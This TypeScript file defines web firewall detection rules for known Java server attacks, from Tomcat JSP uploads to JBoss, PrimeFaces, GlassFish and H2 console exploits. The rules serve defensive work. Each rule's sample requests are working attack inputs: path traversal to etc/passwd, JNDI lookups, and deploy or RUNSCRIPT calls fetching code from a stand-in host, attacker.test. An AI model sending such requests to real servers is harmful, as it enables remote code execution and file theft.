import { formPost, get, send } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  cookieHas,
  decodedQueryHas,
  fieldHas,
  fieldIs,
  fieldMatches,
  hasField,
  hasHeader,
  methodIs,
  outsideSources,
  pathEnds,
  pathHas,
  pathMatches,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const tomcatRules = [
  detection({
    ref: 'managed-tomcat-put-script',
    description: 'Apache Tomcat: uploads a JSP with PUT (CVE-2017-12615, CVE-2017-12617)',
    categories: [
      'apache-tomcat',
      'file-upload',
      'remote-code-execution',
      'cve-2017-12615',
      'cve-2017-12617',
    ],
    expression: allOf(
      pathHas('.jsp'),
      methodIs('PUT'),
      pathMatches('\\.jspx?(?:/|%20|::\\$data| )?$'),
    ),
    matching: [
      send('PUT', '/a.jsp/', 'text/plain', '<% out.print(1); %>'),
      send('PUT', '/x.jsp%20', 'text/plain', '<%=1%>'),
      send('PUT', '/b.jspx', 'text/plain', 'x'),
    ],
    other: [send('PUT', '/files/a.json', 'application/json', '{}'), get('/index.jsp')],
  }),
  detection({
    ref: 'managed-tomcat-partial-session',
    description: 'Apache Tomcat: writes a session as a partial file and loads it (CVE-2025-24813)',
    categories: ['apache-tomcat', 'deserialization', 'remote-code-execution', 'cve-2025-24813'],
    expression: anyOf(
      allOf(methodIs('PUT'), pathEnds('.session')),
      allOf(methodIs('PUT'), pathEnds('/session'), hasHeader('content-range')),
      cookieHas('jsessionid=.'),
    ),
    matching: [
      send('PUT', '/xx/session', 'application/octet-stream', 'x', {
        'content-range': 'bytes 0-5/10',
      }),
      get('/', { cookie: 'JSESSIONID=.xx' }),
      send('PUT', '/a.session', 'text/plain', 'x'),
    ],
    other: [
      send('PUT', '/api/sessions/5', 'application/json', '{}'),
      get('/', { cookie: 'JSESSIONID=5F3A9C2E' }),
    ],
  }),
  detection({
    ref: 'managed-java-path-parameter-bypass',
    description:
      'Tomcat, Shiro, mod_jk: reach a protected path with dots and a semicolon (CVE-2018-11759, CVE-2020-1957, CVE-2020-13933)',
    categories: [
      'apache-tomcat',
      'apache-shiro',
      'java',
      'authentication-bypass',
      'directory-traversal',
      'cve-2018-11759',
      'cve-2020-1957',
      'cve-2020-13933',
    ],
    expression: rawPathHas('/..;', '/%2e%2e;', '/.%2e;', '/%2e.;', '/;/', '/%3b/'),
    matching: [get('/app/..;/manager/html'), get('/;/admin/page'), get('/jkstatus/%3b/x')],
    other: [get('/shop;jsessionid=5F3A/items'), get('/a;b=c/d')],
  }),
  detection({
    ref: 'managed-tomcat-manager',
    description: 'Apache Tomcat: opens the manager, which deploys applications',
    categories: ['apache-tomcat', 'broken-access-control'],
    action: 'log',
    expression: allOf(
      pathHas('/manager/', '/host-manager/'),
      pathMatches('^/(?:manager/(?:html|text|jmxproxy)|host-manager/(?:html|text))(?:/|$)'),
    ),
    matching: [
      get('/manager/html'),
      send('PUT', '/manager/text/deploy?path=/x', 'application/octet-stream', 'x'),
      get('/host-manager/text/list'),
    ],
    other: [get('/manager/team'), get('/hr/manager/html-guide')],
  }),
  detection({
    ref: 'managed-java-protected-folder',
    description:
      'Java web applications: read configuration from folders that are not published (CVE-2021-26085, CVE-2021-26086, CVE-2021-28164, CVE-2021-34429)',
    categories: [
      'java',
      'atlassian',
      'jetty',
      'information-disclosure',
      'directory-traversal',
      'cve-2021-26085',
      'cve-2021-26086',
      'cve-2021-28164',
      'cve-2021-34429',
    ],
    expression: allOf(
      pathHas('/web-inf/', '/meta-inf/', '/web-inf;', '/web-inf.'),
      outsideSources('(?:web|meta)-inf'),
    ),
    matching: [
      get('/s/x/_/;/WEB-INF/web.xml'),
      get('/%2e/WEB-INF/classes/application.properties'),
      get('/app/META-INF/MANIFEST.MF'),
    ],
    other: [
      get('/ada/shop/blob/main/src/main/webapp/WEB-INF/web.xml'),
      get('/docs/web-info/'),
      get('/articles/meta-information'),
    ],
  }),
  detection({
    ref: 'managed-jboss-invoker',
    description:
      'JBoss: a serialised object for an invoker (CVE-2015-7501, CVE-2017-7504, CVE-2017-12149)',
    categories: [
      'jboss',
      'deserialization',
      'remote-code-execution',
      'cve-2015-7501',
      'cve-2017-7504',
      'cve-2017-12149',
    ],
    expression: allOf(
      pathHas(
        '/invoker/jmxinvokerservlet',
        '/invoker/ejbinvokerservlet',
        '/invoker/readonly',
        '/jbossmq-httpil/httpserverilservlet',
        '/jbossmq-httpil/',
      ),
    ),
    matching: [
      send('POST', '/invoker/JMXInvokerServlet', 'application/x-java-serialized-object', 'x'),
      send('POST', '/invoker/readonly', 'application/octet-stream', 'x'),
    ],
    other: [get('/web-console/'), get('/invoker/')],
  }),
  detection({
    ref: 'managed-jboss-jmx-console',
    description: 'JBoss: deploys an application with the JMX console (CVE-2010-0738)',
    categories: ['jboss', 'authentication-bypass', 'remote-code-execution', 'cve-2010-0738'],
    expression: allOf(
      pathHas('/jmx-console/htmladaptor'),
      decodedQueryHas(
        'deploymentscanner',
        'maindeployer',
        'bshdeployer',
        'deploymentfilerepository',
        'invokeop',
      ),
    ),
    matching: [
      {
        ...get(
          '/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.admin:service=DeploymentFileRepository&methodName=store&arg0=a.war',
        ),
        method: 'HEAD',
      },
      get(
        '/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service%3DMainDeployer&arg0=http://attacker.test/a.war',
      ),
    ],
    other: [get('/jmx-console/'), get('/jmx-console/HtmlAdaptor?action=displayMBeans')],
  }),
  detection({
    ref: 'managed-primefaces-expression',
    description:
      'PrimeFaces: runs an encrypted expression of a dynamic resource (CVE-2017-1000486)',
    categories: ['primefaces', 'code-injection', 'remote-code-execution', 'cve-2017-1000486'],
    expression: allOf(
      pathHas(
        '/javax.faces.resource/dynamiccontent.properties',
        '/jakarta.faces.resource/dynamiccontent',
      ),
      fieldIs('pfdrt', 'sc'),
      hasField('pfdrid'),
    ),
    matching: [
      formPost('/javax.faces.resource/dynamiccontent.properties.xhtml', {
        pfdrt: 'sc',
        ln: 'primefaces',
        pfdrid: '4ib88tY5cy3INAZZsdtHRr==',
      }),
      get('/javax.faces.resource/dynamiccontent.properties.xhtml?pfdrt=sc&ln=primefaces&pfdrid=x'),
    ],
    other: [
      get('/javax.faces.resource/dynamiccontent.properties.xhtml?ln=primefaces&v=6.0'),
      get('/javax.faces.resource/theme.css.xhtml?ln=primefaces-aristo'),
    ],
  }),
  detection({
    ref: 'managed-glassfish-files',
    description: 'GlassFish: reads files with overlong dots in the path (CVE-2017-1000028)',
    categories: ['glassfish', 'directory-traversal', 'cve-2017-1000028'],
    expression: allOf(rawPathHas('/theme/'), rawPathHas('%c0%ae', '%c0%af')),
    matching: [
      get('/theme/META-INF/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd'),
      get('/theme/com/sun%c0%af..%c0%afx'),
    ],
    other: [get('/theme/dark/style.css'), get('/theme/caf%c3%a9.css')],
  }),
  detection({
    ref: 'managed-h2-console-jndi',
    description: 'H2 console: loads a class of another host as a database driver (CVE-2021-42392)',
    categories: ['h2', 'spring', 'remote-code-execution', 'cve-2021-42392'],
    expression: allOf(
      pathHas('/h2-console', '/login.do', '/h2/'),
      anyOf(
        fieldHas('driver', 'javax.naming', 'initialcontext'),
        fieldMatches('url', '^(?:ldap|rmi):|^jdbc:h2:.*(?:init=|runscript)'),
      ),
    ),
    matching: [
      formPost('/h2-console/login.do?jsessionid=5f', {
        driver: 'javax.naming.InitialContext',
        url: 'ldap://192.0.2.1/x',
      }),
      formPost('/h2-console/test.do', {
        driver: 'org.h2.Driver',
        url: "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://attacker.test/x.sql'",
      }),
    ],
    other: [
      formPost('/h2-console/login.do', {
        driver: 'org.h2.Driver',
        url: 'jdbc:h2:~/test',
        user: 'sa',
      }),
      formPost('/login.do', { user: 'ada' }),
    ],
  }),
];
